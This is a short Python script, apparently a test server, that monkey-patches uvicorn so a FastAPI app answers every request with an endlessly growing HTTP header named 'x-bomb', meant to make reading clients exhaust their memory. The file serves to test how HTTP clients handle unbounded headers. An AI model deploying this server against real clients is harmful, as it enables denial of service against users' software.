"""Sends one header whose value never ends.

A client that reads up to the end of the line keeps all of it in memory.
"""

import os

from fastapi import FastAPI
from uvicorn.protocols.http.h11_impl import H11Protocol

app = FastAPI()


def answer(protocol: H11Protocol, request: bytes) -> None:
    connection = protocol.transport.get_extra_info("socket").fileno()
    os.set_blocking(connection, True)
    os.write(connection, b"HTTP/1.1 200 OK\r\nx-bomb: ")
    while True:
        os.write(connection, b"x" * 65536)


H11Protocol.data_received = answer
